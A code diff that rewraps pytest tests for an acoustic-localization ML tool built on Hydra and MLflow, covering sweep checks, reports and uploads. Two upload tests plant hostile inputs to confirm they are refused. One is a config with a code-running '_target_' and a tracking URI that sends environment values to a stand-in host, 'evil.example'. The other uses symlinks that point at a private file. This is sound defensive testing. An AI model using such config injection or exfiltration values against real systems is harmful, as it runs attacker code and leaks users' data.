@@ -83,7 +83,10 @@ def test_sweep_preflight_stops_before_any_job_and_names_the_failing_ones(run_cli
     errors = [line for line in proc.stderr.splitlines() if line.startswith("acoustlab: error: job #")]
     # Hydra's order: the product of the overrides, the last one varying fastest
     assert [e.split(" ")[3] for e in errors] == ["#1", "#2", "#3"]
-    assert "pipeline.model_target=absolute conformal.levels=[0.8,1.5]" in errors[0] and "conformal.levels must lie in (0, 1); got 1.5" in errors[0]
+    assert (
+        "pipeline.model_target=absolute conformal.levels=[0.8,1.5]" in errors[0]
+        and "conformal.levels must lie in (0, 1); got 1.5" in errors[0]
+    )
     assert "Invalid value 'sideways', expected one of [absolute, correction]" in errors[1]  # the typed schema
     assert "3 of 4 sweep jobs would fail; nothing was run" in proc.stderr
     assert not list(out.glob("multirun/*/*/*/metrics.json")) and not (out / "mlflow.db").exists()
@@ -153,8 +156,11 @@ def test_report_tables_match_the_runs(compose_cfg, tmp_path):
     for png in ("sweep_error_cdf.png", "sweep_coverage_calibration.png", "runs/0/site_map.png", "runs/1/error_cdf.png"):
         assert (tmp_path / "rep" / png).stat().st_size > 1000, png
     # the same through the console entry point: acoustlab report ...
-    proc = subprocess.run([sys.executable, "-m", "acoustlab", "report", str(tmp_path / "runs"), "--out", str(tmp_path / "cli")],
-                          capture_output=True, text=True)
+    proc = subprocess.run(
+        [sys.executable, "-m", "acoustlab", "report", str(tmp_path / "runs"), "--out", str(tmp_path / "cli")],
+        capture_output=True,
+        text=True,
+    )
     assert proc.returncode == 0, proc.stderr[-2000:]
     assert (tmp_path / "cli" / "report.html").exists() and str(tmp_path / "cli" / "report.md") in proc.stdout
 
@@ -167,8 +173,15 @@ def test_report_of_a_missing_path_is_a_clear_error(tmp_path, capsys):
 def test_submitit_local_launcher_runs_the_sweep(run_cli, tmp_path):
     pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
     out = tmp_path / "outputs"
-    proc = run_cli("-m", "hydra/launcher=submitit_local", "hydra.launcher.timeout_min=120", *SMALL, "model=xgboost,random_forest",
-                   "data.n_jobs=1", outputs=out)
+    proc = run_cli(
+        "-m",
+        "hydra/launcher=submitit_local",
+        "hydra.launcher.timeout_min=120",
+        *SMALL,
+        "model=xgboost,random_forest",
+        "data.n_jobs=1",
+        outputs=out,
+    )
     assert proc.returncode == 0, proc.stderr[-3000:]
     assert len(list(out.glob("multirun/*/*/*/metrics.json"))) == 2
     runs = runs_in(out / "mlflow.db")
@@ -197,9 +210,25 @@ def test_real_mlflow_server_receives_params_metrics_tables_and_artifacts(run_cli
     port = _free_port()
     base = f"http://127.0.0.1:{port}"
     server = subprocess.Popen(
-        [sys.executable, "-m", "mlflow", "server", "--host", "127.0.0.1", "--port", str(port), "--workers", "1",
-         "--backend-store-uri", f"sqlite:///{tmp_path / 'server.db'}", "--artifacts-destination", str(tmp_path / "artifacts")],
-        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={**os.environ, "PYTHONWARNINGS": "ignore"},
+        [
+            sys.executable,
+            "-m",
+            "mlflow",
+            "server",
+            "--host",
+            "127.0.0.1",
+            "--port",
+            str(port),
+            "--workers",
+            "1",
+            "--backend-store-uri",
+            f"sqlite:///{tmp_path / 'server.db'}",
+            "--artifacts-destination",
+            str(tmp_path / "artifacts"),
+        ],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        env={**os.environ, "PYTHONWARNINGS": "ignore"},
     )
     try:
         deadline = time.time() + 120
@@ -233,7 +262,12 @@ def test_real_mlflow_server_receives_params_metrics_tables_and_artifacts(run_cli
         tables = {f["path"] for f in _rest(base, "artifacts/list", run_id=run_id, path="tables")["files"]}
         assert {"tables/errors.json", "tables/coverage.json"} <= tables
         plots = {f["path"] for f in _rest(base, "artifacts/list", run_id=run_id, path="plots")["files"]}
-        assert {"plots/error_cdf.png", "plots/site_map.png", "plots/coverage_calibration.png", "plots/predicted_vs_actual_error.png"} <= plots
+        assert {
+            "plots/error_cdf.png",
+            "plots/site_map.png",
+            "plots/coverage_calibration.png",
+            "plots/predicted_vs_actual_error.png",
+        } <= plots
     finally:
         server.terminate()
         server.wait(timeout=30)
@@ -269,10 +303,19 @@ def test_upload_never_runs_code_named_in_a_received_folder(tmp_path, monkeypatch
     run_dir = tmp_path / "received"
     run_dir.mkdir()
     called = tmp_path / "called"
-    (run_dir / "config_resolved.yaml").write_text(yaml.safe_dump({
-        "tracking": {"_target_": "pathlib.Path.touch", "self": str(called), "tracking_uri": "http://evil.example:5000/${oc.env:HOME}",
-                     "experiment_name": "${oc.env:PATH}"},
-        "paths": {"outputs_dir": str(tmp_path / "outputs")}}))
+    (run_dir / "config_resolved.yaml").write_text(
+        yaml.safe_dump(
+            {
+                "tracking": {
+                    "_target_": "pathlib.Path.touch",
+                    "self": str(called),
+                    "tracking_uri": "http://evil.example:5000/${oc.env:HOME}",
+                    "experiment_name": "${oc.env:PATH}",
+                },
+                "paths": {"outputs_dir": str(tmp_path / "outputs")},
+            }
+        )
+    )
     tracker = upload.tracker_for(run_dir, None, None)
     assert not called.exists()
     assert type(tracker).__name__ == "MlflowTracker" and "evil" not in str(tracker.tracking_uri)
@@ -315,8 +358,9 @@ def _received_run(tmp_path: Path) -> Path:
     secret = tmp_path / "secret.txt"
     secret.write_text("the uploader's private file")
     (run_dir / "config_resolved.yaml").write_text(yaml.safe_dump({"paths": {"outputs_dir": str(tmp_path / "their_outputs")}}))
-    (run_dir / "metrics.json").write_text(json.dumps({"site": "forest", "dataset_hash": "abc", "code_version": "x",
-                                                      "localization": {"n_detections": 3}}))
+    (run_dir / "metrics.json").write_text(
+        json.dumps({"site": "forest", "dataset_hash": "abc", "code_version": "x", "localization": {"n_detections": 3}})
+    )
     (run_dir / "plots" / "site_map.png").write_bytes(b"png")
     (run_dir / "plots" / "leak.png").symlink_to(secret)
     (run_dir / "positions.csv").symlink_to(secret)
@@ -329,8 +373,11 @@ def test_upload_sends_only_regular_files_inside_the_folder_to_the_uploaders_stor
     assert upload.main([str(run_dir), "--store-dir", str(tmp_path / "mine")]) == 0
     assert not (tmp_path / "their_outputs").exists()  # the folder does not choose where the store goes
     (run,) = runs_in(tmp_path / "mine" / "mlflow.db")
-    stored = {p.relative_to(tmp_path / "mine" / "mlartifacts").as_posix().split("/artifacts/", 1)[-1]
-              for p in (tmp_path / "mine" / "mlartifacts").rglob("*") if p.is_file()}
+    stored = {
+        p.relative_to(tmp_path / "mine" / "mlartifacts").as_posix().split("/artifacts/", 1)[-1]
+        for p in (tmp_path / "mine" / "mlartifacts").rglob("*")
+        if p.is_file()
+    }
     assert {"metrics.json", "config_resolved.yaml", "plots/site_map.png"} <= stored
     assert "positions.csv" not in stored and "plots/leak.png" not in stored
     assert not any("private" in p.read_text(errors="ignore") for p in (tmp_path / "mine" / "mlartifacts").rglob("*") if p.is_file())
@@ -370,11 +417,23 @@ def _fake_run(tmp_path: Path, name: str, model: str, p95: float, drop: list[str]
     (run_dir / ".hydra").mkdir(parents=True)
     (run_dir / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(["+site=forest", f"model={model}"]))
     (run_dir / "config_resolved.yaml").write_text(yaml.safe_dump({"features": {"drop": drop}, "pipeline": {}}))
-    errors = {m: {"n": 10, "mean": 1.0, "p50": 0.2985871639346396, "p90": 1.0, "p95": p95, "p99": float("inf"), "share_gt_5m": 0.1}
-              for m in ("solver", "gate")}
-    (run_dir / "metrics.json").write_text(json.dumps({"site": "forest", "dataset_hash": "h", "code_version": "c", "errors": errors,
-                                                      "coverage": {"fixed": {"0.95": 0.9}}, "interval_width": {"fixed": {"0.95": {"median_m": 1.0}}},
-                                                      "gate": {"name": "hybrid", "diagnostics": {"tau_star_db": 3.14159}}}))
+    errors = {
+        m: {"n": 10, "mean": 1.0, "p50": 0.2985871639346396, "p90": 1.0, "p95": p95, "p99": float("inf"), "share_gt_5m": 0.1}
+        for m in ("solver", "gate")
+    }
+    (run_dir / "metrics.json").write_text(
+        json.dumps(
+            {
+                "site": "forest",
+                "dataset_hash": "h",
+                "code_version": "c",
+                "errors": errors,
+                "coverage": {"fixed": {"0.95": 0.9}},
+                "interval_width": {"fixed": {"0.95": {"median_m": 1.0}}},
+                "gate": {"name": "hybrid", "diagnostics": {"tau_star_db": 3.14159}},
+            }
+        )
+    )
     return run_dir
 
 
@@ -387,9 +446,18 @@ def test_sweep_tables_show_the_varied_settings_rounded_and_ties_as_ties(tmp_path
     errors = error_rows(runs)
     assert list(errors.columns[:2]) == ["model", "method"] and set(errors["model"]) == {"xgboost", "knn"}  # a column, not a label
     ranking = uncertainty_rows(runs)
-    assert list(ranking["feature groups withheld"]) == ["none", "ir, spectral"] and list(ranking["gate"]) == ["hybrid: tau_star_db 3.14"] * 2
+    assert (
+        list(ranking["feature groups withheld"]) == ["none", "ir, spectral"] and list(ranking["gate"]) == ["hybrid: tau_star_db 3.14"] * 2
+    )
     assert "tie" in conclusion(runs) and "smallest" not in conclusion(runs).lower()
-    assert [format_cell(v) for v in (0.2985871639346396, float("inf"), float("nan"), 92, None, 1234.5)] == ["0.299", "∞", "—", "92", "—", "1.23e+03"]
+    assert [format_cell(v) for v in (0.2985871639346396, float("inf"), float("nan"), 92, None, 1234.5)] == [
+        "0.299",
+        "∞",
+        "—",
+        "92",
+        "—",
+        "1.23e+03",
+    ]
 
 
 def test_the_true_scale_inset_never_hides_a_microphone():
@@ -436,7 +504,9 @@ def test_a_run_logged_after_it_ended_keeps_its_own_start_and_duration(compose_cf
     cfg = compose_cfg([*SMALL, f"paths.outputs_dir={tmp_path / 'outputs'}", "tracking=none", "plots=false"])
     metrics = run_experiment(cfg, tmp_path / "run")
     clock = metrics["run_time"]
-    assert clock["finished_epoch_ms"] - clock["started_epoch_ms"] == pytest.approx(1000 * metrics["timings_s"]["total_before_tracking_s"], abs=50)
+    assert clock["finished_epoch_ms"] - clock["started_epoch_ms"] == pytest.approx(
+        1000 * metrics["timings_s"]["total_before_tracking_s"], abs=50
+    )
     time.sleep(1.5)
     assert upload.main([str(tmp_path / "run"), "--store-dir", str(tmp_path / "store")]) == 0
     (run,) = runs_in(tmp_path / "store" / "mlflow.db")
